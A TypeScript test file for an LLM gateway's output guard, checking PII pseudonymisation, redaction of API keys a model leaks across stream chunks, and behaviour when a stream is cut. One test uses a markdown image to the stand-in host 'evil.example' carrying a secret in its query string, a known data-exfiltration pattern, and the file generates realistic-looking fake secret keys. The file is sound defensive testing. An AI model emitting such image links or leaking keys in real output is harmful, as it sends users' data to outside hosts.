import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { post, startTestGateway, type TestGateway } from '../helpers/gateway.js';

function fakeProjectKey(): string {
  const abc = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
  const part = (n: number) => [...randomBytes(n)].map((b) => abc[b % abc.length]).join('');
  return `sk-proj-${part(48)}T3BlbkFJ${part(48)}`;
}

type Json = Record<string, unknown>;

/** Data payloads of an SSE body, parsed (the `[DONE]` line skipped). */
function events(sse: string): Json[] {
  return sse
    .split('\n')
    .filter((l) => l.startsWith('data: ') && l !== 'data: [DONE]')
    .map((l) => JSON.parse(l.slice(6)) as Json);
}

/** The assistant text a client assembles from a stream, per endpoint. */
function streamedText(endpoint: string, sse: string): string {
  let text = '';
  for (const e of events(sse)) {
    if (endpoint === 'chat') {
      const choices = e.choices as { delta?: { content?: string } }[] | undefined;
      text += choices?.[0]?.delta?.content ?? '';
    } else if (endpoint === 'responses' && e.type === 'response.output_text.delta') {
      text += e.delta as string;
    } else if (endpoint === 'messages' && e.type === 'content_block_delta') {
      text += (e.delta as { text: string }).text;
    }
  }
  return text;
}

const REQUESTS = {
  chat: (content: string, stream: boolean) => ({
    path: '/v1/chat/completions',
    body: { model: 'gpt-4o-mini', stream, messages: [{ role: 'user', content }] },
    text: (j: Json) => (j.choices as { message: { content: string } }[])[0]?.message.content,
  }),
  responses: (content: string, stream: boolean) => ({
    path: '/v1/responses',
    body: { model: 'gpt-4o-mini', stream, input: content },
    text: (j: Json) => ((j.output as Json[])[0]?.content as { text: string }[])[0]?.text,
  }),
  messages: (content: string, stream: boolean) => ({
    path: '/v1/messages',
    body: {
      model: 'claude-haiku-4-5',
      stream,
      max_tokens: 100,
      messages: [{ role: 'user', content }],
    },
    text: (j: Json) => (j.content as { text: string }[])[0]?.text,
  }),
} as const;

describe('guard: output stage', () => {
  let gw: TestGateway;
  let auth: Record<string, string>;

  beforeAll(async () => {
    gw = await startTestGateway({ config: { guard: { output: { holdBackChars: 128 } } } });
    auth = { authorization: `Bearer ${(await gw.createKey()).secret}` };
  });
  beforeEach(() => gw.mock.reset());
  afterAll(() => gw.close());

  async function call(kind: keyof typeof REQUESTS, content: string, stream: boolean) {
    const req = REQUESTS[kind](content, stream);
    const res = await post(`${gw.url}${req.path}`, req.body, auth);
    expect(res.status).toBe(200);
    if (!stream) return { text: req.text((await res.json()) as Json) ?? '', raw: '' };
    const raw = await res.text();
    return { text: streamedText(kind, raw), raw };
  }

  it.each(['chat', 'responses', 'messages'] as const)(
    '%s: the provider sees pseudonyms, the caller the originals, streamed or not',
    async (kind) => {
      const prompt = 'mail anna@example.com, card 4111 1111 1111 1111';
      const plain = await call(kind, prompt, false);
      expect(JSON.stringify(gw.mock.received.at(-1)?.body)).toContain(
        'mail <EMAIL_1>, card <CARD_1>',
      );
      expect(JSON.stringify(gw.mock.received.at(-1)?.body)).not.toContain('anna@example.com');
      expect(plain.text).toContain(prompt);
      gw.mock.enqueueFault({ chunkSize: 3 });
      const streamed = await call(kind, prompt, true);
      expect(streamed.text).toBe(plain.text);
    },
  );

  it.each(['chat', 'responses', 'messages'] as const)(
    '%s: a secret the model leaks across chunk boundaries arrives redacted, streamed or not',
    async (kind) => {
      const key = fakeProjectKey();
      const reply = `Sure, use ${key} in the header.`;
      gw.mock.enqueueFault({ reply, chunkSize: 3 });
      const streamed = await call(kind, 'hi', true);
      expect(streamed.text).toBe('Sure, use [REDACTED:openai-project-key] in the header.');
      expect(streamed.raw).not.toContain(key.slice(20, 40));
      gw.mock.enqueueFault({ reply });
      expect((await call(kind, 'hi', false)).text).toBe(streamed.text);
    },
  );

  it('restores pseudonyms in the full texts a Responses stream repeats at the end', async () => {
    gw.mock.enqueueFault({ chunkSize: 2 });
    const { raw } = await call('responses', 'mail anna@example.com', true);
    const completed = events(raw).find((e) => e.type === 'response.completed');
    expect(JSON.stringify(completed)).toContain('mail anna@example.com');
    expect(raw).not.toContain('<EMAIL_1>');
  });

  it('neutralises markdown images to unknown hosts and redacts card numbers the model invents', async () => {
    const reply = 'Look ![chart](https://evil.example/c.png?q=secret) and pay 4242 4242 4242 4242.';
    gw.mock.enqueueFault({ reply, chunkSize: 5 });
    const { text } = await call('chat', 'hi', true);
    expect(text).toBe('Look [image removed: chart] and pay [CARD].');
    await gw.flushAudit();
    const [row] = await gw.app.store.queryAudit({ limit: 1 });
    expect(row?.decisions).toEqual(
      expect.arrayContaining([
        { stage: 'guard_output', action: 'neutralise', type: 'image', count: 1 },
        { stage: 'guard_output', action: 'redact', type: 'card', count: 1 },
      ]),
    );
  });

  it('never leaks held-back text when the stream is cut: the caller gets a stream error', async () => {
    gw.mock.enqueueFault({
      reply: `a ${fakeProjectKey()} b`,
      chunkSize: 4,
      truncateAfterChunks: 10,
    });
    const res = await post(`${gw.url}/v1/chat/completions`, REQUESTS.chat('x', true).body, auth);
    const raw = await res.text();
    expect(raw).toContain('upstream_stream_interrupted');
    expect(raw).not.toMatch(/sk-proj-[A-Za-z0-9]{8}/);
  });

  it.each(['chat', 'responses', 'messages'] as const)(
    '%s: a short answer streams word by word, with no empty deltas',
    async (kind) => {
      const reply = 'The capital of France is Paris, of course.';
      expect(reply.length).toBeLessThan(128);
      gw.mock.enqueueFault({ reply, chunkSize: 6 });
      const { text, raw } = await call(kind, 'capital?', true);
      expect(text).toBe(reply);
      const deltas = events(raw).map((e) => streamedText(kind, `data: ${JSON.stringify(e)}\n`));
      const content = deltas.filter((d) => d !== '');
      expect(content.length).toBeGreaterThan(3);
      // Every text delta carries text (the role chunk of a chat stream carries none).
      const textDeltas = events(raw).filter((e) =>
        kind === 'chat'
          ? (e.choices as { delta?: Json }[] | undefined)?.[0]?.delta?.role === undefined &&
            typeof (e.choices as { delta?: { content?: unknown } }[] | undefined)?.[0]?.delta
              ?.content === 'string'
          : e.type ===
            (kind === 'responses' ? 'response.output_text.delta' : 'content_block_delta'),
      );
      expect(textDeltas.length).toBe(content.length);
    },
  );
});
